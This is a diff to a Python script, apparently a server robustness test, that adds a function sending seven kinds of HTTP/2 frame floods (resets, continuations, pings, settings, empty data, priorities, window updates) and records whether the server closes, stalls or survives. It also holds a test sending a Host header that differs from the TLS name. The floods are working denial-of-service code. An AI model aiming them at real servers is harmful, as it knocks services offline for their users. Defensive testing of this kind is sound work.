@@ -143,6 +143,37 @@ for name, arguments in {
 }.items():
     seen[name] = attack(*arguments)
 
+
+
+def flood(frames, count=40_000):
+    """Sends frames of a kind and reads nothing. - Returns: 'closed', 'stalled' where the server reads no more either, or 'survived'."""
+    with connect(["h2"]) as channel:
+        channel.settimeout(5)
+        try:
+            channel.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0))
+            for begin in range(0, count, 100):
+                channel.sendall(b"".join(frames(index) for index in range(begin, begin + 100)))
+            while channel.recv(65536):
+                pass
+            return "closed"
+        except TimeoutError:
+            return "survived" if begin + 100 >= count else "stalled"
+        except (ConnectionError, ssl.SSLError):
+            return "closed"
+
+
+HEAD = literal(request(path="/flood"))
+for name, frames in {
+    "flood of resets": lambda index: frame(1, 5, 2 * index + 1, HEAD) + frame(3, 0, 2 * index + 1, struct.pack(">I", 8)),
+    "flood of continuations": lambda index: frame(9, 0, 1, literal([("x", "y" * 100)])) if index else frame(1, 1, 1, HEAD),
+    "flood of pings": lambda index: frame(6, 0, 0, b"12345678"),
+    "flood of settings": lambda index: frame(4, 0, 0, struct.pack(">HI", 3, 100)),
+    "flood of empty data": lambda index: frame(0, 0, 1) if index else frame(1, 4, 1, HEAD),
+    "flood of priorities": lambda index: frame(2, 0, 2 * index + 1, struct.pack(">IB", 0, 1)),
+    "flood of windows": lambda index: frame(8, 0, 0, struct.pack(">I", 1)),
+}.items():
+    seen[name] = flood(frames)
+
 # The name in the TLS handshake is not the one of the request.
 with connect(["http/1.1"], HOST) as channel:
     channel.sendall(f"GET /smuggled HTTP/1.1\r\nHost: {OTHER}\r\nConnection: close\r\n\r\n".encode())
